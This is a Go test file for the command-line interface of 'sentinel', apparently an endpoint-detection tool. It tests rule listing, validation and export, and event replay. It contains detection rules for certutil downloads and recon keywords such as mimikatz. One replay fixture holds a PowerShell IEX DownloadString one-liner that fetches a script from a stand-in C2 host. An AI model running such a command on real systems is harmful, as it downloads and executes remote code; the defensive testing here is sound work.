package cmd

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sentinel/detect"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func execute(t *testing.T, args ...string) (string, error) {
	t.Helper()
	root := NewRootCmd()
	buf := new(bytes.Buffer)
	root.SetOut(buf)
	root.SetErr(buf)
	root.SetArgs(append([]string{"--no-color"}, args...))
	err := root.Execute()
	return buf.String(), err
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

func TestRootCommandStructure(t *testing.T) {
	root := NewRootCmd()
	assert.Equal(t, "sentinel", root.Use)

	names := make(map[string]bool)
	for _, c := range root.Commands() {
		names[c.Name()] = true
	}
	for _, want := range []string{"serve", "replay", "rules"} {
		assert.True(t, names[want], "missing command %q", want)
	}

	rules, _, err := root.Find([]string{"rules"})
	require.NoError(t, err)
	sub := make(map[string]bool)
	for _, c := range rules.Commands() {
		sub[c.Name()] = true
	}
	assert.True(t, sub["list"])
	assert.True(t, sub["validate"])
	assert.True(t, sub["export"])

	for _, flag := range []string{"config", "json", "no-color", "ephemeral"} {
		assert.NotNil(t, root.PersistentFlags().Lookup(flag), flag)
	}
}

func TestRulesExportRoundTrips(t *testing.T) {
	out, err := execute(t, "rules", "export")
	require.NoError(t, err)

	defs, err := detect.ParseRuleDefinitions([]byte(out))
	require.NoError(t, err)
	assert.Equal(t, detect.DefaultRuleDefinitions(), defs)
}

func TestRulesValidate(t *testing.T) {
	valid := writeFile(t, "rules.yaml", `rules:
  - name: Certutil Download
    severity: HIGH
    confidence: 75
    field: command_line
    pattern: 'certutil(\.exe)?\s+.*-urlcache'
  - name: Recon Keywords
    severity: LOW
    confidence: 30
    field: command_line
    keywords: [whoami, nltest]
`)
	out, err := execute(t, "rules", "validate", valid)
	require.NoError(t, err, out)
	assert.Contains(t, out, "Certutil Download")
	assert.Contains(t, out, "Recon Keywords")
	assert.Contains(t, out, "2 rules defined, 2 enabled")

	duplicate := writeFile(t, "dup.yaml", `rules:
  - name: Same
    severity: LOW
    confidence: 10
    keywords: [a]
  - name: same
    severity: LOW
    confidence: 10
    keywords: [b]
`)
	out, err = execute(t, "rules", "validate", duplicate)
	require.Error(t, err)
	assert.Contains(t, out, "duplicate rule name")

	_, err = execute(t, "rules", "validate", filepath.Join(t.TempDir(), "missing.yaml"))
	assert.Error(t, err)

	_, err = execute(t, "rules", "validate")
	assert.Error(t, err, "FILE argument is required")
}

func TestRulesValidate_JSON(t *testing.T) {
	path := writeFile(t, "rules.yaml", `rules:
  - name: Only Rule
    severity: MEDIUM
    confidence: 50
    keywords: [mimikatz]
`)
	out, err := execute(t, "--json", "rules", "validate", path)
	require.NoError(t, err)

	var infos []detect.RuleInfo
	require.NoError(t, json.Unmarshal([]byte(out), &infos))
	require.Len(t, infos, 1)
	assert.Equal(t, "Only Rule", infos[0].Name)
}

func TestRulesList_BuiltIn(t *testing.T) {
	out, err := execute(t, "rules", "list")
	require.NoError(t, err)
	assert.Contains(t, out, "Encoded PowerShell Command")
	assert.Contains(t, out, "Heuristic: Long Base64 Block *")
	assert.Contains(t, out, "fires only when no earlier rule matched")
}

func TestReplay_Ephemeral(t *testing.T) {
	events := writeFile(t, "events.jsonl", strings.Join([]string{
		`# one malicious, one benign, one broken`,
		`{"id":"evt-1","image":"powershell.exe","command_line":"powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil-c2.io/p.ps1')\"","parent_image":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","host":"SEC-WKSTN-01"}`,
		`{"id":"evt-2","image":"cmd.exe","command_line":"cmd.exe /c echo \"Safe check\""}`,
		`{"id":"evt-3"}`,
	}, "\n"))

	out, err := execute(t, "--ephemeral", "--json", "replay", events)
	require.NoError(t, err, out)

	var result replayResult
	require.NoError(t, json.Unmarshal([]byte(out), &result))
	assert.Equal(t, 4, result.Stats.Lines)
	assert.Equal(t, 2, result.Stats.Ingested)
	assert.Equal(t, 1, result.Stats.Skipped)
	assert.Equal(t, 1, result.Stats.Rejected)
	assert.Equal(t, 3, result.Alerts)

	out, err = execute(t, "--ephemeral", "replay", events)
	require.NoError(t, err)
	assert.Contains(t, out, "Ingested")
	assert.Contains(t, out, "Rejected")
}

func TestReplay_BadInput(t *testing.T) {
	_, err := execute(t, "--ephemeral", "replay", filepath.Join(t.TempDir(), "missing.jsonl"))
	assert.Error(t, err)

	_, err = execute(t, "--ephemeral", "replay", t.TempDir())
	assert.Error(t, err)
}
